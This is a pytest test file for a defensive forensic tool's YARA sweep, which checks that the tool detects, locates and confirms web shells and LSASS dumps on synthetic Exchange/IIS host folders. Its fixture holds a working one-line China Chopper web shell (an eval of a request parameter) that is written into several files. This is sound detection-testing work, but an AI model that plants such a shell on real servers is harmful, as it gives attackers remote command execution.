"""The YARA sweep over a synthetic host folder: what is swept, what is found, what is reported."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from exhunt.content.bundle import ContentBundle, ContentSpec
from exhunt.detectors.base import HostContext
from exhunt.detectors.yara import family
from exhunt.detectors.yara.detector import YaraDetector
from exhunt.model.coverage import HostCoverage
from exhunt.model.event import Record
from exhunt.model.evidence import Artifact, ArtifactKind
from exhunt.model.finding import Finding, Outcome
from exhunt.sources.directory import DirectoryTree

CHOPPER = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z9x"],"unsafe");%>\n'
BENIGN = b'<%@ Page Language="C#" %>\n<html><body><%= DateTime.UtcNow %></body></html>\n'
AUTH = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"


def write(root: Path, rel: str, data: bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def host(root: Path, options: dict[str, Any] | None = None,
         spec: ContentSpec | None = None) -> tuple[YaraDetector, HostContext, ContentBundle]:
    tree = DirectoryTree(root, name="ex01")
    artifacts = [Artifact(ArtifactKind.FILE, e.path, e.size, e.mtime) for e in tree.walk()]
    ctx = HostContext(host="ex01", tree=tree, artifacts=artifacts, coverage=HostCoverage(),
                      options=options or {})
    bundle = ContentBundle(spec or ContentSpec())
    family.load(bundle)
    detector = family.create(bundle, ctx.options)
    assert isinstance(detector, YaraDetector)
    return detector, ctx, bundle


def run(detector: YaraDetector, ctx: HostContext, records: list[Record] = ()) -> list[Finding]:  # type: ignore[assignment]
    detector.start(ctx)
    for record in records:
        detector.on_record(record, ctx)
    for artifact in ctx.artifacts:
        detector.on_file(artifact, ctx)
    return detector.finish(ctx)


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    write(tmp_path, "C/inetpub/wwwroot/aspnet_client/system_web/xx.aspx", CHOPPER)
    write(tmp_path, "C/inetpub/wwwroot/iisstart.htm", b"<html>IIS</html>")
    write(tmp_path, f"{AUTH}/logon.aspx", BENIGN * 50)
    write(tmp_path, f"{AUTH}/readme.txt", CHOPPER)  # sniffed as a page whatever its name
    write(tmp_path, "C/Users/bob/Documents/notes.docx", CHOPPER)  # any name: the head says it is a page
    write(tmp_path, "C/Data/sites/intranet/shell.ashx", CHOPPER)  # page extension anywhere: a vdir may point here
    write(tmp_path, "C/Data/other/copy.txt", CHOPPER)  # outside sweep locations, not a page extension
    write(tmp_path, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", CHOPPER)  # logs are the parsers' job
    return tmp_path


def paths(findings: list[Finding]) -> list[str]:
    return sorted({f.attr_values("path")[0] for f in findings})


def test_sweep_finds_shells_where_they_live(evidence: Path) -> None:
    detector, ctx, bundle = host(evidence)
    assert bundle.errors == []
    findings = run(detector, ctx)
    assert paths(findings) == [
        "C/Data/sites/intranet/shell.ashx",
        f"{AUTH}/readme.txt",
        "C/Users/bob/Documents/notes.docx",
        "C/inetpub/wwwroot/aspnet_client/system_web/xx.aspx",
    ]
    shell = next(f for f in findings if f.attr_values("file_name") == ["xx.aspx"])
    assert shell.rule_id == "EXH-YARA-CHOPPER-EVAL"
    assert shell.outcome == Outcome.SUSPICIOUS
    assert "T1505.003" in shell.attack
    assert shell.attr_values("step") == ["webshell-write"]
    assert shell.attr_values("family") == ["china-chopper"]
    assert shell.attr_values("size") == [str(len(CHOPPER))]
    assert len(shell.attr_values("md5")[0]) == 32 and len(shell.attr_values("sha1")[0]) == 40
    ref = shell.evidence[0]
    assert ref.sha256 == shell.attr_values("sha256")[0] and ref.timestamp
    assert 'eval(Request.Item[\\"z9x\\"]' not in ref.excerpt and 'eval(Request.Item["z9x"]' in ref.excerpt
    assert "\\x0a" in ref.excerpt  # newline escaped, never raw control bytes
    assert ctx.coverage.sources["yara_sweep"].files == 5  # the four above and logon.aspx


def test_request_in_web_logs_confirms(evidence: Path) -> None:
    detector, ctx, _ = host(evidence)
    detector.start(ctx)
    interest = detector.interest(ArtifactKind.IIS)
    assert interest is not None and interest.literals is not None and "xx.aspx" in interest.literals
    assert detector.interest(ArtifactKind.EVTX) is None
    raw = ("2021-03-03 06:50:01 10.0.0.5 POST /aspnet_client/system_web/XX.aspx - 443 - 203.0.113.9 "
           "Mozilla/5.0 - 200 0 0 31")
    record = Record(ArtifactKind.IIS, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
                    {"cs-uri-stem": "/aspnet_client/system_web/XX.aspx", "c-ip": "203.0.113.9",
                     "cs-method": "POST", "sc-status": "200"}, raw=raw, line=7, timestamp="2021-03-03T06:50:01Z")
    detector.on_record(record, ctx)
    findings = detector.finish(ctx)
    shell = next(f for f in findings if f.attr_values("file_name") == ["xx.aspx"])
    assert shell.outcome == Outcome.CONFIRMED
    assert shell.attr_values("client_ip") == ["203.0.113.9"]
    assert shell.evidence[1].line == 7 and shell.evidence_total == 2
    other = next(f for f in findings if f.attr_values("file_name") == ["shell.ashx"])
    assert other.outcome == Outcome.SUSPICIOUS


def test_large_file_scanned_in_windows_never_skipped(tmp_path: Path) -> None:
    padding = b"A" * 200_000
    write(tmp_path, "C/inetpub/wwwroot/big.aspx", b"<%@ Page %>" + padding + CHOPPER + padding)
    detector, ctx, _ = host(tmp_path, {"yara_window_bytes": 64 * 1024})
    findings = run(detector, ctx)
    assert [f.rule_id for f in findings] == ["EXH-YARA-CHOPPER-EVAL"]
    base = len(b"<%@ Page %>") + len(padding)  # where the shell starts, past the first window
    assert base <= (findings[0].evidence[0].offset or 0) < base + len(CHOPPER)
    assert "eval(Request.Item" in findings[0].evidence[0].excerpt
    assert any("overlapping windows" in note for note in ctx.coverage.notes)


def test_zip_like_stream_path_windows(tmp_path: Path) -> None:
    # a minidump bigger than one window: the header is checked in every window
    dump = b"MDMP" + b"\0" * 300_000 + "lsass.exe".encode("utf-16-le")
    write(tmp_path, "C/Windows/Temp/debug.bin", dump)
    detector, ctx, _ = host(tmp_path, {"yara_window_bytes": 64 * 1024})
    findings = run(detector, ctx)
    assert [f.rule_id for f in findings] == ["EXH-YARA-LSASS-DUMP"]
    assert findings[0].evidence[0].offset == 300_004
    assert findings[0].attr_values("step") == ["credential-access"]


def test_size_limit_is_visible(evidence: Path) -> None:
    detector, ctx, _ = host(evidence, {"yara_max_bytes": 100})
    findings = run(detector, ctx)
    skipped = [w for w in ctx.coverage.warnings if w.code == "skipped-size"]
    assert [w.path for w in skipped] == [f"{AUTH}/logon.aspx"]
    assert "yara_max_bytes=100" in skipped[0].message
    assert len(findings) == 4
    cover = ctx.coverage.sources["yara_sweep"]
    assert (cover.files, cover.files_failed, cover.status.value) == (5, 1, "partial")


def test_nothing_to_sweep_adds_no_coverage_gap(tmp_path: Path) -> None:
    write(tmp_path, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", b"#Software: Microsoft IIS\n")
    write(tmp_path, "C/Windows/System32/notepad.exe", b"MZ\x90\x00")
    detector, ctx, _ = host(tmp_path)
    assert run(detector, ctx) == []
    assert "yara_sweep" not in ctx.coverage.sources and ctx.coverage.warnings == []


def test_parallel_workers_same_result(evidence: Path) -> None:
    one = [f.to_dict() for f in run(*host(evidence)[:2])]
    two = [f.to_dict() for f in run(*host(evidence, {"yara_workers": 2})[:2])]
    assert one == two


def test_user_rules_with_externals_and_a_broken_file(evidence: Path,
                                                     tmp_path_factory: pytest.TempPathFactory) -> None:
    rules = tmp_path_factory.mktemp("my-rules")
    (rules / "good.yar").write_text(
        'rule SB_Style_Path : T1505_003 {\n meta:\n  description = "page in aspnet_client"\n  score = 80\n'
        ' condition:\n  filepath contains "\\\\aspnet_client\\\\" and extension == ".aspx"\n'
        '  and filename == "xx.aspx"\n}\n')
    (rules / "broken.yar").write_text('rule ok_one { condition: false }\n\nrule bad {\n  condition: $x and\n}\n')
    (rules / "module.yar").write_text('import "magic"\nrule needs_magic { condition: magic.type() contains "PE" }\n')
    detector, ctx, bundle = host(evidence, spec=ContentSpec(yara_paths=(str(rules),)))
    assert [(e.path.endswith("broken.yar"), e.line in (4, 5)) for e in bundle.errors] == [(True, True)]
    assert any("needs_magic" in u.message for u in bundle.unsupported)
    findings = run(detector, ctx)
    user = [f for f in findings if f.rule_id.endswith(":SB_Style_Path")]
    assert len(user) == 1 and user[0].attack == ("T1505.003",) and user[0].severity.label == "high"


def test_same_input_same_output(evidence: Path) -> None:
    first = [f.to_dict() for f in run(*host(evidence)[:2])]
    second = [f.to_dict() for f in run(*host(evidence)[:2])]
    assert first == second


def test_zip_evidence_same_findings(evidence: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    import zipfile

    from exhunt.sources.ziparchive import ZipTree

    archive = tmp_path_factory.mktemp("zipped") / "ex01.zip"  # never inside the folder being zipped
    files = sorted(p for p in evidence.rglob("*") if p.is_file())
    with zipfile.ZipFile(archive, "w") as out:
        for path in files:
            out.write(path, path.relative_to(evidence).as_posix())
    tree = ZipTree(archive, name="ex01")
    artifacts = [Artifact(ArtifactKind.FILE, e.path, e.size, e.mtime) for e in tree.walk()]
    ctx = HostContext(host="ex01", tree=tree, artifacts=artifacts, coverage=HostCoverage(),
                      options={"yara_workers": 2})  # a zip cannot go to workers: scanned in this process
    bundle = ContentBundle(ContentSpec())
    family.load(bundle)
    detector = family.create(bundle, ctx.options)
    assert isinstance(detector, YaraDetector)
    zipped = run(detector, ctx)
    assert paths(zipped) == paths(run(*host(evidence)[:2]))
    assert all(f.evidence[0].sha256 for f in zipped)


APPHOST = """<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />
        </application>
        <application path="/intranet" applicationPool="Intranet">
          <virtualDirectory path="/" physicalPath="D:\\Sites\\Intranet" />
        </application>
        <application path="/share">
          <virtualDirectory path="/" physicalPath="\\\\fs01\\web$\\share" />
        </application>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
"""


def test_virtual_directories_from_iis_config_are_web_roots(tmp_path: Path) -> None:
    write(tmp_path, "C/Windows/System32/inetsrv/config/applicationHost.config", APPHOST.encode())
    write(tmp_path, "D/Sites/Intranet/scripts/menu.js", CHOPPER)  # .js: swept only inside a web root
    write(tmp_path, "D/Other/menu.js", CHOPPER)  # not served: not swept
    detector, ctx, _ = host(tmp_path)
    findings = run(detector, ctx)
    assert paths(findings) == ["D/Sites/Intranet/scripts/menu.js"]
    assert findings[0].attr_values("location") == ["web-root"]
    assert [(w.code, "fs01" in w.message) for w in ctx.coverage.warnings] == [("vdir-elsewhere", True)]


def test_compiled_page_tied_to_its_source_page(tmp_path: Path) -> None:
    from exhunt.content.bundle import RULES_DIR

    cache = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/5f1b2c3d/9a8b7c6d"
    dll = (RULES_DIR / "yara/samples/EXH-YARA-COMPILED-CHOPPER/"
           "positive-App_Web_errorcheck.aspx.cdcab7d2.dll.sample").read_bytes()
    write(tmp_path, f"{cache}/App_Web_errorcheck.aspx.cdcab7d2.q1w2e3r4.dll", dll)
    write(tmp_path, f"{cache}/errorcheck.aspx.cdcab7d2.compiled", (
        b'<?xml version="1.0" encoding="utf-8"?>\n<preserve resultType="3" virtualPath="/owa/auth/errorcheck.aspx" '
        b'hash="ffffffff1a2b3c4d" filehash="0123456789abcdef" flags="110000" '
        b'assembly="App_Web_errorcheck.aspx.cdcab7d2.q1w2e3r4" type="ASP.owa_auth_errorcheck_aspx" />\n'))
    detector, ctx, _ = host(tmp_path)
    detector.start(ctx)
    interest = detector.interest(ArtifactKind.HTTPPROXY)
    assert interest is not None and interest.literals is not None and "errorcheck.aspx" in interest.literals
    detector.on_record(Record(ArtifactKind.HTTPPROXY, "x.LOG", {"UrlStem": "/owa/auth/errorcheck.aspx",
                                                                 "ClientIpAddress": "203.0.113.9"},
                              raw="...", line=3, timestamp="2021-03-03T07:00:00Z"), ctx)
    findings = detector.finish(ctx)
    assert [f.rule_id for f in findings] == ["EXH-YARA-COMPILED-CHOPPER"]
    found = findings[0]
    assert found.attr_values("source_page") == ["/owa/auth/errorcheck.aspx"]
    assert sorted(found.attr_values("file_name")) == ["app_web_errorcheck.aspx.cdcab7d2.q1w2e3r4.dll",
                                                       "errorcheck.aspx"]
    assert found.outcome == Outcome.CONFIRMED and "compiled it from the page" in found.description


@pytest.mark.parametrize("workers", [1, 2])
def test_sweep_in_small_batches_reads_as_one(evidence: Path, monkeypatch: pytest.MonkeyPatch, workers: int) -> None:
    """The sweep streams its files in batches (memory bounded by the batch, not the host); findings, coverage
    and the order of its warnings (selection's first, then the scan's) are those of a single batch."""
    from exhunt.detectors.yara import detector as module

    for n in range(5):
        write(evidence, f"C/inetpub/wwwroot/app/page{n}.aspx", CHOPPER if n % 2 else BENIGN)

    def outcome() -> tuple[list[dict[str, Any]], list[tuple[str, str]], tuple[int, int, int]]:
        detector, ctx, _ = host(evidence, {"yara_max_bytes": 1000, "yara_workers": workers})
        gone = [Artifact(ArtifactKind.FILE, "C/inetpub/wwwroot/gone.aspx", 10),  # chosen by name, scan fails
                Artifact(ArtifactKind.FILE, "C/inetpub/wwwroot/gone.bin", 10)]  # its head is read to choose
        ctx.artifacts[3:3] = gone[:1]
        ctx.artifacts.append(gone[1])
        findings = [f.to_dict() for f in run(detector, ctx)]
        cover = ctx.coverage.sources["yara_sweep"]
        return findings, [(w.code, w.path) for w in ctx.coverage.warnings], (cover.files, cover.files_failed,
                                                                            cover.bytes)

    whole = outcome()
    monkeypatch.setattr(module, "SWEEP_BATCH", 2)
    batched = outcome()
    assert batched == whole
    codes = [code for code, _ in whole[1]]
    assert codes == ["skipped-size", "unreadable", "unreadable"]  # selection's (size, head), then the scan's
    assert whole[1][1][1].endswith("gone.bin") and whole[1][2][1].endswith("gone.aspx")
    assert len(whole[0]) >= 3
